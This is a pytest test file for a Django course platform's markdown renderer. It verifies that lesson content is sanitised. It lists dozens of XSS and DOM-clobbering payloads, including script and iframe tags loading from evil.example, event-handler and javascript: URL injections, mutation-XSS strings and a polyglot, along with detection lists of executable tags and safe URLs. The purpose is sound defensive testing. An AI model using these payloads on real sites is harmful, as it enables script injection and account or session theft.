import re
from unittest import mock

import html5lib
import pytest
from django.core.cache import cache

from courses import markdown
from courses.markdown import markdown_render, markdown_render_uncached

# Raw elements left open, which would take the rest of the lesson (or page) with them.
UNCLOSED_PAYLOADS = [
    "<style>",
    "<style>body{display:none}",
    "<math><style>",
    "<math><style><img src=x onerror=alert(1)>",
    "<svg><style>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<noembed>",
    "<noframes>",
    "<plaintext>",
    "<select><option>",
    "<script>",
    "<iframe>",
    "<!-- 未闭合的注释",
]

# Each payload, once rendered, must leave nothing that a browser would execute.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<body onload="alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<IFRAME SRC=\"javascript:alert('x');\"></IFRAME>",
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](  javascript:alert(1))",
    "[点我](vbscript:msgbox(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "![图](javascript:alert(1))",
    '![图](x" onerror="alert(1))',
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)">点击</p>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input type="submit"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="#" onmouseover="alert(1)">悬停</a>',
    "```\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>",
    '<base href="javascript:/">',
    # DOM clobbering: ids and names that shadow the page's own, classes that dress up.
    '<a id="csrfmiddlewaretoken" class="button" href="/learning/">领取学时</a>',
    '<img name="getElementById" src="https://img.example/a.png"><form name="body"></form>',
    '<a id="main"></a><a id="main" name="href" href="https://evil.example">x</a>',
    '<h2 id="progress" class="lesson-progress">伪造的进度</h2>',
    '<div class="messages message--success">报名成功</div>',
    '<span id="user-content-x" class="button button--secondary">x</span>',
    "# [假按钮](https://evil.example) {: .button #id_username }",
    *UNCLOSED_PAYLOADS,
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Polyglots.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><script>alert(1)</script>",
    '"><img src=x id=csrfmiddlewaretoken onerror=alert(1)>',
    '<a href="javascript&colon;alert(1)" id="x" class="headerlink">x</a>',
]

EXECUTABLE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "meta",
    "link",
    "style",
    "base",
    "body",
    "details",
    "noscript",
    "frame",
    "frameset",
    "applet",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
SAFE_URL = re.compile(r"^(https?:|mailto:|#|/media/|[^:/?#]*(?:[/?#]|$))", re.I)
ALLOWED_CLASSES = {
    "headerlink",
    "footnote",
    "footnote-ref",
    "footnote-backref",
    "toc",
    "align-left",
    "align-center",
    "align-right",
}


def _elements(html: str):
    """The elements a browser builds from ``html`` placed inside a page's body."""
    for element in _fragment(html).iter():
        if isinstance(element.tag, str):
            yield element.tag.split("}")[-1], element.attrib


def executable_parts(html: str) -> list[str]:
    """What a browser would run: script-like elements, event handlers, script URLs."""
    found = []
    for tag, attrs in _elements(html):
        if tag in EXECUTABLE_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value is not None:
                url = re.sub(r"[\x00-\x20]", "", value)
                if not SAFE_URL.match(url):
                    found.append(f"{tag}[{name}={value}]")
    return found


def clobbering_parts(html: str) -> list[str]:
    """Ids and names that could shadow the page's own, and classes the renderer never writes."""
    found = []
    for tag, attrs in _elements(html):
        if "name" in attrs:
            found.append(f"{tag}[name={attrs['name']}]")
        if "id" in attrs and not attrs["id"].startswith("user-content-"):
            found.append(f"{tag}[id={attrs['id']}]")
        for name in attrs.get("class", "").split():
            if name not in ALLOWED_CLASSES and not (tag == "code" and name.startswith("language-")):
                found.append(f"{tag}[class={name}]")
    return found


def _fragment(html: str):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def rendered_paragraphs(html: str) -> list[str]:
    return ["".join(p.itertext()).strip() for p in _fragment(html).iter("p")]


def rendered_text(html: str) -> str:
    """The text a reader sees: not what a style, script or template element holds."""
    fragment = _fragment(html)
    for element in list(fragment.iter()):
        if element.tag in {"style", "script", "template", "title", "textarea"}:
            element.clear()
    return "".join(fragment.itertext())


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_with_nothing_executable_or_clobbering(payload):
    html = markdown_render_uncached(f"正文开始\n\n{payload}\n\n正文**结束**")

    assert executable_parts(html) == [], html
    assert clobbering_parts(html) == [], html
    assert rendered_paragraphs(html)[0] == "正文开始"
    # Nothing after the payload is swallowed.
    assert rendered_text(html).rstrip().endswith(("正文结束", "正文**结束**")), html


@pytest.mark.parametrize("payload", UNCLOSED_PAYLOADS)
def test_an_element_left_open_ends_with_its_paragraph(payload):
    html = markdown_render_uncached(f"正文开始\n\n{payload}\n\n正文**结束**\n\n## 小结")

    assert rendered_paragraphs(html)[-1] == "正文结束", html
    assert "<strong>结束</strong>" in html
    assert '<h2 id="user-content-小结">' in html


def test_the_checkers_themselves_spot_executable_and_clobbering_html():
    assert executable_parts('<p><img src="x" onerror="alert(1)"></p>') == ["img[onerror]"]
    assert executable_parts('<a href=" javascript:alert(1)">x</a>')
    assert executable_parts("<iframe></iframe><script></script>") == ["<iframe>", "<script>"]
    assert executable_parts('<a href="https://a.cn/">x</a><a href="#fn:1">1</a>') == []
    assert executable_parts("<math><style><img src=x onerror=alert(1)>") == [
        "<math>",
        "<style>",
        "img[onerror]",
    ]
    assert clobbering_parts('<a id="csrfmiddlewaretoken" class="button">x</a>') == [
        "a[id=csrfmiddlewaretoken]",
        "a[class=button]",
    ]
    assert clobbering_parts('<img name="x"><h2 id="user-content-a" class="toc">') == ["img[name=x]"]
    assert rendered_paragraphs("<p>a</p><style><p>b</p>") == ["a"]


def test_ids_are_prefixed_and_classes_kept_only_from_the_allow_list():
    html = markdown_render_uncached(
        '<a id="csrfmiddlewaretoken" name="x" class="button headerlink" href="#top">x</a>'
    )

    assert 'id="user-content-csrfmiddlewaretoken"' in html
    assert 'class="headerlink"' in html
    assert 'href="#user-content-top"' in html
    assert "name=" not in html and "button" not in html


def test_script_inside_code_is_shown_as_text():
    html = markdown_render_uncached("```html\n<script>alert(1)</script>\n```")

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<code class="language-html">' in html


def test_markdown_features_tables_code_footnotes_and_heading_anchors():
    html = markdown_render_uncached(
        "# 接案流程\n\n"
        "| 栏目 | 要点 |\n|:--|--:|\n| 风险 | 上报 |\n\n"
        "```python\nprint('hi')\n```\n\n"
        "保密原则[^1]\n\n[^1]: 见职业道德指引。\n"
    )

    assert '<h1 id="user-content-接案流程">' in html
    assert '<a class="headerlink" href="#user-content-接案流程"' in html
    assert '<th class="align-left">栏目</th>' in html
    assert '<td class="align-right">上报</td>' in html
    assert "align=" not in html
    assert '<code class="language-python">' in html
    assert 'href="#user-content-fn:1"' in html
    assert '<li id="user-content-fn:1">' in html
    assert '<div class="footnote">' in html


def test_every_in_page_link_the_renderer_writes_has_its_target():
    html = markdown_render_uncached(
        "[TOC]\n\n# 接案流程\n\n## 第二节\n\n保密原则[^1]，知情同意[^note]\n\n"
        "[^1]: 见职业道德指引。\n[^note]: 书面同意。\n"
    )

    elements = list(_elements(html))
    ids = {attrs["id"] for _tag, attrs in elements if "id" in attrs}
    targets = {
        attrs["href"][1:] for tag, attrs in elements if attrs.get("href", "").startswith("#")
    }
    assert len(targets) == 6  # two headings (TOC and permalink), two notes and their way back
    assert targets <= ids
    assert all(target.startswith("user-content-") for target in targets)


def test_code_shows_unclosed_raw_elements_as_text():
    html = markdown_render_uncached(
        "```html\n<style>\n<textarea>\n```\n\n行内 `<title>` 代码\n\n    <math> 缩进\n\n结束"
    )

    assert "&lt;style&gt;\n&lt;textarea&gt;" in html
    assert "<code>&lt;title&gt;</code>" in html
    assert "&lt;math&gt; 缩进" in html
    assert "</style>" not in html and "</math>" not in html
    assert rendered_paragraphs(html)[-1] == "结束"


def test_links_keep_safe_urls_and_get_rel():
    html = markdown_render_uncached("[民政部](https://www.mca.gov.cn/) [邮件](mailto:a@b.cn)")

    assert 'href="https://www.mca.gov.cn/"' in html
    assert 'href="mailto:a@b.cn"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_lesson_images_resolve_by_position_and_others_must_be_http():
    images = {"1": "/media/images/intake.max-1200x1200.png"}

    html = markdown_render_uncached(
        "![会谈室](image:1) ![缺图](image:7) ![外链](https://img.example/a.png) "
        "![相对](/admin/secret.png) ![协议相对](//evil.example/a.png)",
        images=images,
    )

    assert '<img alt="会谈室" src="/media/images/intake.max-1200x1200.png"' in html
    assert 'src="https://img.example/a.png"' in html
    assert "缺图" not in html
    assert "/admin/secret.png" not in html
    assert "evil.example" not in html


def test_raw_html_images_with_unknown_sources_lose_their_source():
    html = markdown_render_uncached('<img src="/admin/x.png" alt="a"> <img src="image:1">')

    assert "/admin/x.png" not in html
    assert "image:1" not in html


def test_rendering_is_cached_by_content():
    cache.clear()
    with mock.patch.object(
        markdown, "markdown_render_uncached", wraps=markdown_render_uncached
    ) as render:
        first = markdown_render("## 第一课\n\n内容")
        second = markdown_render("## 第一课\n\n内容")
        assert render.call_count == 1
        assert first == second

        markdown_render("## 第一课\n\n改过的内容")
        assert render.call_count == 2

        markdown_render("## 第一课\n\n内容", images={"1": "/media/images/a.png"})
        assert render.call_count == 3


def test_output_cached_by_an_earlier_renderer_is_not_served():
    text = '<a id="csrfmiddlewaretoken" class="button">x</a>'
    with mock.patch.object(markdown, "RENDERER_VERSION", "1"):
        cache.set(markdown.markdown_cache_key(text, {}), f"<p>{text}</p>")

    html = markdown_render(text)

    assert 'id="user-content-csrfmiddlewaretoken"' in html
    assert "button" not in html


def test_empty_markdown_renders_nothing():
    assert markdown_render("") == ""


@pytest.mark.django_db
def test_a_lesson_page_with_unbalanced_markup_keeps_the_page_after_it(client):
    from tests.academy import factories as people
    from tests.courses import factories as tree
    from tests.enrollments import factories as ef

    course = tree.course()
    body = "\n\n".join(["开头", *UNCLOSED_PAYLOADS, XSS_PAYLOADS[-4], "结尾"])
    lesson = tree.lesson(parent=course, body=body)
    trainee = people.trainee()
    ef.enrollment(course=course, user=trainee)
    client.force_login(trainee)

    response = client.get(lesson.url)

    document = html5lib.parse(response.content, treebuilder="etree", namespaceHTMLElements=False)
    article = document.find(".//article")
    assert "lesson-body" in article.get("class")
    assert "".join(article.itertext()).strip().endswith("结尾")
    # What comes after the lesson body is still there, outside it.
    assert document.find(".//section[@id='progress']//button[@data-complete-button]") is not None
    assert document.find(".//footer[@class='site-footer']") is not None
    assert article.find(".//footer") is None and article.find(".//section") is None
    assert [el.get("id") for el in document.iter() if el.get("id") == "csrfmiddlewaretoken"] == []
